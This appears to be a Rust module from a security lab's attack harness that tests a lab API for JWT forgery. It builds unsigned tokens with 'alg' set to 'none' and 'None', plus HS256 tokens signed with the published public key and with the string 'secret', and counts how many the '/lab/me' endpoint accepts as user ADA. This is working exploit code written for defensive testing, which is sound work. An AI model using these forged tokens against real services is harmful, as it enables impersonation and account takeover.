//! Forged tokens: unsigned ones, and ones signed with the key that everybody may have.

use actix_web::http::Method;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use chrono::{TimeDelta, Utc};
use evidence::Failure;
use jsonwebtoken::{Algorithm, EncodingKey, Header, encode};
use serde_json::{Value, json};

use super::Attack;
use super::attacker::Attacker;
use crate::lab::ADA;

pub(super) const ATTACK: Attack = Attack {
    id: "forged-token",
    name: "JWT none and confusion",
    what: "forged tokens believed",
    run: |attacker| Box::pin(attack(attacker)),
};

async fn attack(attacker: &Attacker<'_>) -> Result<u64, Failure> {
    let published = attacker.get("/lab/keys").await?.json();
    let public = URL_SAFE_NO_PAD.decode(published["keys"][0]["x"].as_str().unwrap_or_default())?;
    let mut believed = 0;
    for token in forged(&public)? {
        let bearer = format!("Bearer {token}");
        let got = attacker.send(Method::GET, "/lab/me", &[("authorization", &bearer)], "").await?;
        believed += u64::from(got.json()["name"] == ADA.1);
    }
    Ok(believed)
}

fn forged(public: &[u8]) -> Result<Vec<String>, Failure> {
    let part = |part: Value| URL_SAFE_NO_PAD.encode(part.to_string());
    let claims = json!({
        "iss": "lab",
        "aud": "lab-api",
        "sub": ADA.0.to_string(),
        "exp": (Utc::now() + TimeDelta::hours(1)).timestamp(),
    });
    let unsigned = |algorithm: &str| {
        format!("{}.{}.", part(json!({"typ": "JWT", "alg": algorithm})), part(claims.clone()))
    };
    let signed = |key: &[u8]| {
        encode(&Header::new(Algorithm::HS256), &claims, &EncodingKey::from_secret(key))
    };
    Ok(vec![unsigned("none"), unsigned("None"), signed(public)?, signed(b"secret")?])
}
